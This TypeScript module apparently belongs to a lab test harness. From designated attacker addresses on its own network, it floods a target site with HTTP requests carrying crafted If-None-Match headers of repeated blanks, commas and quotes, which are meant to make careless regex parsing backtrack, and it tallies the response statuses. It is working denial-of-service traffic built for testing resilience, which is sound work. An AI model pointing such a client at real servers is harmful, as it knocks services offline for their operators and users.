import { randomInt } from 'node:crypto';
import { Agent, type RequestOptions, request } from 'node:http';
import { request as requestTls, Agent as TlsAgent } from 'node:https';
import { fileURLToPath } from 'node:url';
import type { Network } from '../own-network.ts';
import { serveFigures, startClient } from './client-process.ts';

type Target = {
  port: number;
  tls: boolean;
  /** The host that the site answers for. */
  name: string;
  /** In bytes. */
  lengths: readonly number[];
  perSecond: number;
};
type Order = Target & { host: string; from: string };
/** How many had which status; 0 is no answer. */
type Figures = { sent: number; statuses: Record<string, number> };

/** Lists and blanks that a careless pattern reads again and again. Blanks at either end would not get through a parser. */
const fillings = [' ', ' ,', '"a",', 'W/"', '\t', ', "'];
const filled = (filling: string, length: number) => `"a${filling.repeat(length / filling.length)}b"`;

const oneOf = <T>(list: readonly T[]): T => list[randomInt(list.length)] as T;

const paths = ['/', '/privacy-policy', '/rest/v1/blog_posts?select=id,title&limit=5'];

function sendSteadily({ from, host, lengths, name, perSecond, port, tls }: Order, figures: Figures): void {
  const agent = tls ? new TlsAgent({ keepAlive: true, maxSockets: 50 }) : new Agent({ keepAlive: true, maxSockets: 50 });
  const send = tls ? requestTls : request;
  setInterval(() => {
    figures.sent += 1;
    const options: RequestOptions & { servername: string; rejectUnauthorized: boolean } = {
      host,
      port,
      agent,
      localAddress: from,
      servername: 'localhost',
      rejectUnauthorized: false,
      path: oneOf(paths),
      headers: {
        Host: name,
        apikey: 'public-anonymous-key',
        'Accept-Encoding': 'br',
        'If-None-Match': filled(oneOf(fillings), oneOf(lengths)),
      },
      timeout: 10_000,
    };
    const count = (status: number) => {
      figures.statuses[status] = (figures.statuses[status] ?? 0) + 1;
    };
    const sent = send(options, (response) => {
      response.resume();
      count(response.statusCode ?? 0);
    });
    sent.on('timeout', () => sent.destroy());
    sent.on('error', () => count(0));
    sent.end();
  }, 1_000 / perSecond);
}

/** Sends `If-None-Match` with adversarial values, until it is stopped. */
export const sendIfNoneMatch = (network: Network, target: Target) =>
  startClient<Order, Figures>(network, fileURLToPath(import.meta.url), {
    ...target,
    host: network.host,
    from: network.attackers[0] ?? '',
  });

if (import.meta.main) {
  serveFigures<Order>((order) => {
    const figures: Figures = { sent: 0, statuses: {} };
    sendSteadily(order, figures);
    return figures;
  });
}
